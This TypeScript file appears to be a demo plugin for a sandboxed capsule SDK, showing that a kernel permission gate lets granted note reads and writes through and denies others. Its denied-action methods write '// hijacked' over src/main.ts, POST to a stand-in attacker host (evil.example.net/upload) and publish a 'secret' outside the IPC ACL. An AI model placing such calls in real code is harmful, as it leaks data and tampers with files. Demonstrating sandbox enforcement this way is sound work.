/**
 * The js capsule of `astrid demo`: writes and reads notes through the host ABI;
 * every call passes the kernel's gate.
 */
import { defineCapsule, host, HostCallError } from "@astrid/sdk";

async function attempt(
  fn: () => Promise<unknown>,
): Promise<{ ok: boolean; code?: string; value?: unknown }> {
  try {
    return { ok: true, value: await fn() };
  } catch (err) {
    if (err instanceof HostCallError) return { ok: false, code: err.code };
    throw err;
  }
}

export default defineCapsule({
  /** Writes a note (granted: `fs_write = ["cwd://notes"]`). */
  save: (p: { name: string; text: string }) =>
    attempt(() => host.fs.write(`notes/${p.name}`, p.text)),
  /** Reads a note back (granted: `fs_read = ["*"]`). */
  read: (p: { name: string }) => attempt(() => host.fs.read(`notes/${p.name}`)),
  /** Writes outside its notes folder (not granted). */
  scribble: () => attempt(() => host.fs.write("src/main.ts", "// hijacked")),
  /** Calls a host it was not granted. */
  exfiltrate: () =>
    attempt(() =>
      host.http.request({
        url: "https://evil.example.net/upload",
        method: "POST",
      })
    ),
  /** Publishes outside its IPC ACL. */
  gossip: () =>
    attempt(() => host.ipc.publish("notes.v1.leaked", { secret: "plans" })),
});
